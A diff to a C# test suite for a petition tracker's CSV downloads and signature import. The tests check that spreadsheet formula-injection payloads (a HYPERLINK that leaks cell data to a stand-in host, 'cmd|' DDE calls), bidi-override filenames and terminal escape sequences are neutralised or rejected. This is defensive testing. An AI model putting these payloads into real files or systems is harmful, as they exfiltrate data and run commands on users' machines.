@@ -9,6 +9,16 @@ namespace Tracker.Api.Tests;
 /// <summary>CSV downloads, the shell import of signatures (dry run, apply, malformed files) and the key commands.</summary>
 public sealed class CsvTests(MaintainerApi api) : IClassFixture<MaintainerApi>
 {
+    /// <summary>The server's settings with small import limits, to see chunks and limits on small files.</summary>
+    private IConfiguration Small(int chunkRows = 500, int maxRows = 100_000, long maxBytes = 1_000_000) => new ConfigurationBuilder().AddInMemoryCollection(new Dictionary<string, string?>
+    {
+        ["Tracker:DataFolder"] = api.Factory.DataFolder,
+        ["Tracker:Import:ChunkRows"] = chunkRows.ToString(System.Globalization.CultureInfo.InvariantCulture),
+        ["Tracker:Import:PauseBetweenChunks"] = "00:00:00",
+        ["Tracker:Import:MaxRows"] = maxRows.ToString(System.Globalization.CultureInfo.InvariantCulture),
+        ["Tracker:Import:MaxFileBytes"] = maxBytes.ToString(System.Globalization.CultureInfo.InvariantCulture),
+    }).Build();
+
     private IConfiguration Configuration => new ConfigurationBuilder().AddInMemoryCollection(new Dictionary<string, string?> { ["Tracker:DataFolder"] = api.Factory.DataFolder }).Build();
 
     [Fact]
@@ -41,6 +51,67 @@ public sealed class CsvTests(MaintainerApi api) : IClassFixture<MaintainerApi>
         Assert.Equal(System.Net.HttpStatusCode.NotFound, missing.StatusCode);
     }
 
+    /// <summary>Formulas as the issue reported them reaching both downloads (each would run when the file is opened in a spreadsheet).</summary>
+    public static readonly string[] Formulas = ["=HYPERLINK(\"http://x/?leak=\"&A1,\"y\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"];
+
+    [Fact]
+    public async Task Formulas_in_names_printed_names_and_cities_reach_the_signatories_download_as_text()
+    {
+        var rows = Formulas.Select(f => new { printedName = f, city = f }).ToArray();
+        await api.MutateAsync("addSignatures", "added", new { letter = "capitol-action-2011-07-05", signatures = rows });
+        using var client = api.Factory.CreateClient();
+
+        var csv = Parse(await client.GetStringAsync("/csv/letters/capitol-action-2011-07-05/signatories.csv"));
+
+        foreach (var formula in Formulas)
+        {
+            var row = Assert.Single(csv, r => r["PrintedName"] == "'" + formula);
+            Assert.Equal("'" + formula, row["Name"]);
+            Assert.Equal("'" + formula, row["City"]);
+        }
+        Assert.DoesNotContain(csv.SelectMany(r => r.Values), cell => cell.Length > 0 && "=+-@\t\r".Contains(cell[0]));
+    }
+
+    [Fact]
+    public async Task Formulas_in_jurisdiction_names_actors_and_status_texts_reach_the_jurisdictions_download_as_text()
+    {
+        for (var i = 0; i < Formulas.Length; i++)
+        {
+            await api.MutateAsync("createJurisdiction", "jurisdiction { code }", new { code = $"KS-formula{i}", kind = "CITY", name = Formulas[i], parent = "KS" });
+            await api.MutateAsync("recordStatusChange", "statusEvent { id }", new
+            {
+                jurisdiction = $"KS-formula{i}", status = "OPT_OUT_REQUESTED", effectiveOn = "2011-10-01", actor = Formulas[i], description = Formulas[i],
+                sources = new[] { new { source = "mirac-blog" } },
+            });
+        }
+        using var client = api.Factory.CreateClient();
+
+        var csv = Parse(await client.GetStringAsync("/csv/jurisdictions.csv"));
+
+        for (var i = 0; i < Formulas.Length; i++)
+        {
+            var row = Assert.Single(csv, r => r["Code"] == $"KS-formula{i}");
+            Assert.Equal("'" + Formulas[i], row["Name"]);
+            Assert.Equal("'" + Formulas[i], row["Actor"]);
+            Assert.Equal("'" + Formulas[i], row["LastChange"]);
+        }
+        Assert.DoesNotContain(csv.SelectMany(r => r.Values), cell => cell.Length > 0 && "=+-@\t\r".Contains(cell[0]));
+    }
+
+    /// <summary>A download's rows as a spreadsheet would read its cells, by column name.</summary>
+    private static List<Dictionary<string, string>> Parse(string csv)
+    {
+        using var reader = new CsvHelper.CsvReader(new StringReader(csv), System.Globalization.CultureInfo.InvariantCulture);
+        reader.Read();
+        reader.ReadHeader();
+        var rows = new List<Dictionary<string, string>>();
+        while (reader.Read())
+        {
+            rows.Add(reader.HeaderRecord!.ToDictionary(h => h, h => reader.GetField(h)!));
+        }
+        return rows;
+    }
+
     [Fact]
     public async Task Import_dry_run_reports_and_saves_nothing_then_apply_saves_and_audits()
     {
@@ -57,7 +128,7 @@ public sealed class CsvTests(MaintainerApi api) : IClassFixture<MaintainerApi>
         var dry = await SignatureImport.RunAsync(["import", "signatures", "--letter", "call-in-day-2011-06-03", file, "--dry-run"], Configuration, dryOut, new StringWriter());
         var afterDry = await api.WithDbAsync(db => db.Signatures.CountAsync(s => s.Letter.Slug == "call-in-day-2011-06-03"));
         var applyOut = new StringWriter();
-        var applied = await SignatureImport.RunAsync(["import", "signatures", "--letter", "call-in-day-2011-06-03", file], Configuration, applyOut, new StringWriter());
+        var applied = await SignatureImport.RunAsync(["import", "signatures", "--letter", "call-in-day-2011-06-03", file, "--as", "maria"], Configuration, applyOut, new StringWriter());
         var afterApply = await api.WithDbAsync(db => db.Signatures.CountAsync(s => s.Letter.Slug == "call-in-day-2011-06-03"));
 
         Assert.Equal(0, dry);
@@ -67,7 +138,150 @@ public sealed class CsvTests(MaintainerApi api) : IClassFixture<MaintainerApi>
         Assert.Equal(before, afterDry);
         Assert.Equal(0, applied);
         Assert.Equal(before + 3, afterApply);
-        Assert.Equal(1, await api.WithDbAsync(db => db.AuditEntries.CountAsync(a => a.Mutation == "importSignatures" && a.KeyName == "shell")));
+        Assert.Equal(1, await api.WithDbAsync(db => db.AuditEntries.CountAsync(a => a.Mutation == "importSignatures" && a.KeyName == "maria")));
+        Assert.Equal(0, await api.WithDbAsync(db => db.AuditEntries.CountAsync(a => a.KeyName == "shell")));
+    }
+
+    [Fact]
+    public async Task A_real_import_names_who_runs_it_with_an_active_key_name()
+    {
+        var file = Path.Combine(api.Factory.DataFolder, $"who-{Guid.NewGuid():N}.csv");
+        await File.WriteAllTextAsync(file, "printed_name\nA group imported by nobody in particular\n");
+        var before = await api.WithDbAsync(db => db.Signatures.CountAsync());
+        var missingError = new StringWriter();
+        var unknownError = new StringWriter();
+        var revokedError = new StringWriter();
+
+        var missing = await SignatureImport.RunAsync(["import", "signatures", "--letter", "morton-2011-07-20", file], Configuration, new StringWriter(), missingError);
+        var unknown = await SignatureImport.RunAsync(["import", "signatures", "--letter", "morton-2011-07-20", file, "--as", "shell"], Configuration, new StringWriter(), unknownError);
+        var revoked = await SignatureImport.RunAsync(["import", "signatures", "--letter", "morton-2011-07-20", file, "--as", "former"], Configuration, new StringWriter(), revokedError);
+
+        Assert.Equal(2, missing);
+        Assert.Contains("add --as and the name of your API key", missingError.ToString());
+        Assert.Equal(1, unknown);
+        Assert.Contains("No active API key is named \"shell\"", unknownError.ToString());
+        Assert.Equal(1, revoked);
+        Assert.Contains("No active API key is named \"former\"", revokedError.ToString());
+        Assert.Equal(before, await api.WithDbAsync(db => db.Signatures.CountAsync()));
+    }
+
+    [Fact]
+    public async Task A_large_import_is_saved_in_chunks_each_audited_numbered_through_the_file()
+    {
+        var file = Path.Combine(api.Factory.DataFolder, $"chunks-{Guid.NewGuid():N}.csv");
+        await File.WriteAllTextAsync(file, "printed_name\nChunk Group One\nChunk Group Two\nChunk Group Three\nChunk Group One\nChunk Group Five\n");
+        var letter = "protest-2012-03-31";
+        var before = await api.WithDbAsync(db => db.Signatures.CountAsync(s => s.Letter.Slug == letter));
+        var output = new StringWriter();
+
+        var exit = await SignatureImport.RunAsync(["import", "signatures", "--letter", letter, file, "--as", "tomas"], Small(chunkRows: 2), output, new StringWriter());
+
+        var lines = output.ToString().ReplaceLineEndings("\n").TrimEnd().Split('\n');
+        string[] expected = ["row    1  CREATED", "row    2  CREATED", "Saved rows 1-2 of 5.", "row    3  CREATED", "row    4  DUPLICATE", "Saved rows 3-4 of 5.", "row    5  CREATED", "Saved row 5 of 5.", "Added 4 of 5 rows to \"protest-2012-03-31\"."];
+        Assert.Equal(0, exit);
+        Assert.Equal(expected.Length, lines.Length);
+        Assert.All(expected.Zip(lines), pair => Assert.StartsWith(pair.First, pair.Second));
+        var positions = await api.WithDbAsync(db => db.Signatures.Where(s => s.Letter.Slug == letter).OrderBy(s => s.Position).Select(s => s.Position).ToListAsync());
+        Assert.Equal(Enumerable.Range(1, before + 4), positions);
+        var audits = await api.WithDbAsync(db => db.AuditEntries.Where(a => a.Mutation == "importSignatures" && a.KeyName == "tomas").OrderBy(a => a.Id).Select(a => a.Input).ToListAsync());
+        Assert.Equal(3, audits.Count);
+        Assert.Contains("\"rows\":\"3-4\"", audits[1]);
+    }
+
+    [Fact]
+    public async Task An_interrupted_import_keeps_the_chunks_it_saved_and_running_it_again_adds_the_rest()
+    {
+        var file = Path.Combine(api.Factory.DataFolder, $"interrupted-{Guid.NewGuid():N}.csv");
+        await File.WriteAllTextAsync(file, "printed_name\nInterrupted Group A\nInterrupted Group B\nInterrupted Group C\nInterrupted Group D\nInterrupted Group E\n");
+        var letter = "valentines-day-protest-2014-02-14";
+        var before = await api.WithDbAsync(db => db.Signatures.CountAsync(s => s.Letter.Slug == letter));
+        using var interrupt = new CancellationTokenSource();
+        // Ctrl-C as the first chunk is reported saved.
+        var output = new LineHook(line => { if (line.StartsWith("Saved rows 1-2", StringComparison.Ordinal)) { interrupt.Cancel(); } });
+        var error = new StringWriter();
+
+        var first = await SignatureImport.RunAsync(["import", "signatures", "--letter", letter, file, "--as", "maria"], Small(chunkRows: 2), output, error, interrupt.Token);
+        var afterFirst = await api.WithDbAsync(db => db.Signatures.CountAsync(s => s.Letter.Slug == letter));
+        var again = new StringWriter();
+        var second = await SignatureImport.RunAsync(["import", "signatures", "--letter", letter, file, "--as", "maria"], Small(chunkRows: 2), again, new StringWriter());
+        var printed = await api.WithDbAsync(db => db.Signatures.Where(s => s.Letter.Slug == letter).OrderBy(s => s.Position).Select(s => s.PrintedName).ToListAsync());
+
+        Assert.Equal(1, first);
+        Assert.Contains("Interrupted: rows 1-2 were saved (2 added to \"valentines-day-protest-2014-02-14\"), rows 3-5 were not. Run the same import again", error.ToString());
+        Assert.Equal(before + 2, afterFirst);
+        Assert.Equal(0, second);
+        Assert.Contains("row    1  DUPLICATE", again.ToString());
+        Assert.Contains("row    2  DUPLICATE", again.ToString());
+        Assert.Contains("Added 3 of 5 rows", again.ToString());
+        Assert.Equal(["Interrupted Group A", "Interrupted Group B", "Interrupted Group C", "Interrupted Group D", "Interrupted Group E"], printed.Skip(before));
+    }
+
+    [Fact]
+    public async Task Line_breaks_and_tabs_in_a_name_are_shown_escaped_so_each_row_stays_one_line_of_the_report()
+    {
+        var file = Path.Combine(api.Factory.DataFolder, $"layout-{Guid.NewGuid():N}.csv");
+        await File.WriteAllTextAsync(file, "printed_name\n\"Two\nLines\tGroup\"\nAnother Group Altogether\n");
+        var output = new StringWriter();
+
+        var exit = await SignatureImport.RunAsync(["import", "signatures", "--letter", "morton-2011-07-20", file, "--dry-run"], Configuration, output, new StringWriter());
+
+        var lines = output.ToString().ReplaceLineEndings("\n").TrimEnd().Split('\n');
+        Assert.Equal(0, exit);
+        Assert.Equal(3, lines.Length);
+        Assert.StartsWith("row    1  CREATED    \"Two\\u000ALines\\u0009Group\"", lines[0]);
+        Assert.StartsWith("row    2  CREATED", lines[1]);
+    }
+
+    [Fact]
+    public async Task Rows_of_one_batch_find_the_signatories_made_by_earlier_rows_as_the_mutation_does()
+    {
+        // What matching row by row against the database gave, which the batch's in-memory index must give too: a
+        // group made by an earlier row is found by its acronym, and a person of the same name gets the next slug.
+        var signatures = new object[]
+        {
+            new { printedName = "Batch Coalition of the North", acronym = "B.C.N." },
+            new { printedName = "bcn" },
+            new { printedName = "Batch Coalition of the North", kind = "PERSON" },
+            new { printedName = "MIRA" },
+            new { printedName = "Minnesota Immigrant Rights Action Committee" },
+        };
+        var file = Path.Combine(api.Factory.DataFolder, $"batch-{Guid.NewGuid():N}.csv");
+        await File.WriteAllTextAsync(file, "printed_name,kind,acronym\nBatch Coalition of the North,,B.C.N.\nbcn,,\nBatch Coalition of the North,person,\nMIRA,,\nMinnesota Immigrant Rights Action Committee,,\n");
+        var output = new StringWriter();
+
+        await SignatureImport.RunAsync(["import", "signatures", "--letter", "no-more-deportations-petition-2011", file, "--dry-run"], Configuration, output, new StringWriter());
+        var payload = await api.MutateAsync("addSignatures", "rows { outcome signature { signatory { ... on Organization { slug } ... on Person { slug } } } candidates { ... on Organization { slug } } }",
+            new { letter = "no-more-deportations-petition-2011", signatures });
+
+        var rows = payload["rows"]!.AsArray();
+        Assert.Equal(["CREATED", "DUPLICATE", "CREATED", "AMBIGUOUS", "MATCHED"], rows.Select(r => (string)r!["outcome"]!));
+        Assert.Equal("batch-coalition-of-the-north", (string)rows[0]!["signature"]!["signatory"]!["slug"]!);
+        Assert.Equal("batch-coalition-of-the-north-2", (string)rows[2]!["signature"]!["signatory"]!["slug"]!);
+        Assert.Equal(["mira-massachusetts", "mira-mississippi"], rows[3]!["candidates"]!.AsArray().Select(c => (string)c!["slug"]!));
+        Assert.Equal(
+            ["row    1  CREATED    \"Batch Coalition of the North\" -> batch-coalition-of-the-north",
+             "row    2  DUPLICATE  \"bcn\"  This signatory already signed the letter. (batch-coalition-of-the-north)",
+             "row    3  CREATED    \"Batch Coalition of the North\" -> batch-coalition-of-the-north-2",
+             "row    4  AMBIGUOUS  \"MIRA\"  2 signatories match \"MIRA\"; give the exact name. (mira-massachusetts, mira-mississippi)",
+             "row    5  MATCHED    \"Minnesota Immigrant Rights Action Committee\" -> mirac"],
+            output.ToString().ReplaceLineEndings("\n").Split('\n').Take(5));
+    }
+
+    [Theory]
+    [InlineData(3, 1_000_000, "the file has more than 3 rows, the most imported at once (Tracker:Import:MaxRows): split it.")]
+    [InlineData(100, 40, "bytes; at most 40 are read at once (Tracker:Import:MaxFileBytes): split it.")]
+    public async Task A_file_over_the_import_limits_is_refused_whole(int maxRows, long maxBytes, string message)
+    {
+        var file = Path.Combine(api.Factory.DataFolder, $"large-{Guid.NewGuid():N}.csv");
+        await File.WriteAllTextAsync(file, "printed_name\nLimit Group 1\nLimit Group 2\nLimit Group 3\nLimit Group 4\n");
+        var before = await api.WithDbAsync(db => db.Signatures.CountAsync());
+        var error = new StringWriter();
+
+        var exit = await SignatureImport.RunAsync(["import", "signatures", "--letter", "morton-2011-07-20", file, "--as", "maria"], Small(maxRows: maxRows, maxBytes: maxBytes), new StringWriter(), error);
+
+        Assert.Equal(1, exit);
+        Assert.Contains(message, error.ToString());
+        Assert.Equal(before, await api.WithDbAsync(db => db.Signatures.CountAsync()));
     }
 
     [Theory]
@@ -80,6 +294,17 @@ public sealed class CsvTests(MaintainerApi api) : IClassFixture<MaintainerApi>
     [InlineData("printed_name,kind,city\nShort row,organization\n", "line 2: 2 fields, but the header has 3.")]
     [InlineData("printed_name,kind\nLong row,organization,Duluth,MN\n", "line 2: 4 fields, but the header has 2.")]
     [InlineData("printed_name\n\"\u0001\u0002binary\u0003\" junk that goes on and on and on and on and on\n", "line 2: malformed CSV near \"binary \" junk that goes on and on and...\".")]
+    [InlineData("printed_name,state,kind, State \nX,MN,person,MN\n", "line 1: the column \"state\" appears 2 times")]
+    [InlineData("printed_name\nGood\n\"Evil \u202Egnp.exe\"\n", "line 3: printed_name contains the bidirectional control U+202E")]
+    [InlineData("printed_name,city\nGood,\u2067Boston\u2069\n", "line 2: city contains the bidirectional control U+2067")]
+    [InlineData("printed_name\n\"\u001B]0;owned\u0007\u001B[2JName\"\n", "line 2: printed_name contains the control character U+001B")]
+    [InlineData("printed_name\n\"Name \u009B31m\"\n", "line 2: printed_name contains the control character U+009B")]
+    [InlineData("printed_name\nComit\uFFFD de Apoyo\n", "line 2: printed_name contains U+FFFD")]
+    [InlineData("printed_name\nGood\n\"=HYPERLINK(\"\"http://x/?leak=\"\"&A1,\"\"y\"\")\"\n", "line 3: printed_name starts with \"=\", which spreadsheets run as a formula")]
+    [InlineData("printed_name\n+cmd|' /C calc'!A0\n", "line 2: printed_name starts with \"+\"")]
+    [InlineData("printed_name\n@SUM(1+1)*cmd|' /C calc'!A0\n", "line 2: printed_name starts with \"@\"")]
+    [InlineData("printed_name\n-2+3+cmd|' /C calc'!A0\n", "line 2: printed_name starts with \"-\"")]
+    [InlineData("printed_name,city\nGood,\"\t=1+1\"\n", "line 2: city starts with \"=\"")]
     public async Task A_malformed_file_names_its_line_and_imports_nothing(string content, string message)
     {
         var file = Path.Combine(api.Factory.DataFolder, $"bad-{Guid.NewGuid():N}.csv");
@@ -87,12 +312,42 @@ public sealed class CsvTests(MaintainerApi api) : IClassFixture<MaintainerApi>
         var before = await api.WithDbAsync(db => db.Signatures.CountAsync());
         var error = new StringWriter();
 
-        var exit = await SignatureImport.RunAsync(["import", "signatures", "--letter", "morton-2011-07-20", file], Configuration, new StringWriter(), error);
+        var exit = await SignatureImport.RunAsync(["import", "signatures", "--letter", "morton-2011-07-20", file, "--as", "maria"], Configuration, new StringWriter(), error);
 
         Assert.Equal(1, exit);
         Assert.Contains(message, error.ToString());
         Assert.Contains("Nothing was imported.", error.ToString());
+        Assert.DoesNotContain(error.ToString(), c => char.IsControl(c) && c is not ('\n' or '\r') || TerminalText.IsBidiControl(c));
         Assert.Equal(before, await api.WithDbAsync(db => db.Signatures.CountAsync()));
+    }
+
+    [Fact]
+    public async Task A_file_that_is_not_utf8_is_refused_at_the_line_of_its_first_foreign_byte()
+    {
+        var file = Path.Combine(api.Factory.DataFolder, $"latin1-{Guid.NewGuid():N}.csv");
+        // "Comité de Apoyo" as Latin-1 writes it: é is the single byte 0xE9.
+        await File.WriteAllBytesAsync(file, [.. "printed_name\nCentro Presente\nComit"u8, 0xE9, .. " de Apoyo\n"u8]);
+        var before = await api.WithDbAsync(db => db.Signatures.CountAsync());
+        var error = new StringWriter();
+
+        var exit = await SignatureImport.RunAsync(["import", "signatures", "--letter", "morton-2011-07-20", file, "--dry-run"], Configuration, new StringWriter(), error);
+
+        Assert.Equal(1, exit);
+        Assert.Contains("line 3: the byte 0xE9 is not UTF-8 (was the file saved as Latin-1 or Windows-1252?); save it as UTF-8. Nothing was imported.", error.ToString());
+        Assert.Equal(before, await api.WithDbAsync(db => db.Signatures.CountAsync()));
+    }
+
+    [Fact]
+    public async Task A_utf8_file_with_a_byte_order_mark_is_read()
+    {
+        var file = Path.Combine(api.Factory.DataFolder, $"bom-{Guid.NewGuid():N}.csv");
+        await File.WriteAllBytesAsync(file, [.. "\uFEFFprinted_name,city\nComité de Apoyo Nuevo,Austin\n"u8]);
+        var output = new StringWriter();
+
+        var exit = await SignatureImport.RunAsync(["import", "signatures", "--letter", "morton-2011-07-20", file, "--dry-run"], Configuration, output, new StringWriter());
+
+        Assert.Equal(0, exit);
+        Assert.Contains("row    1  CREATED    \"Comité de Apoyo Nuevo\" -> comite-de-apoyo-nuevo", output.ToString());
     }
 
     [Fact]
